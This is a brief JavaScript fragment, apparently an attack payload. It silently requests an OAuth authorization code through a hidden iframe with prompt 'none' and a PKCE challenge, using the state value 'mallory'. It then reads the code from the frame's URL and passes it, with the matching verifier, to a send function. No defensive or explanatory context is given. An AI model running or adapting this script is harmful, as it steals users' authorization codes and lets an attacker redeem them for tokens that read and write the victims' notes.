const encode = bytes => btoa(String.fromCharCode(...new Uint8Array(bytes)))
    .replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
  const verifier = encode(crypto.getRandomValues(new Uint8Array(32)));
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier));
  const frame = document.createElement("iframe");
  frame.src = `${issuer}/authorize?${new URLSearchParams({
    response_type: "code", client_id: client, redirect_uri: location.origin + callback, prompt: "none",
    scope: "notes:read notes:write", state: "mallory",
    code_challenge: encode(digest), code_challenge_method: "S256",
  })}`;
  await new Promise(done => { frame.onload = done; document.body.append(frame); });
  await send({address: frame.contentWindow.location.href, verifier});
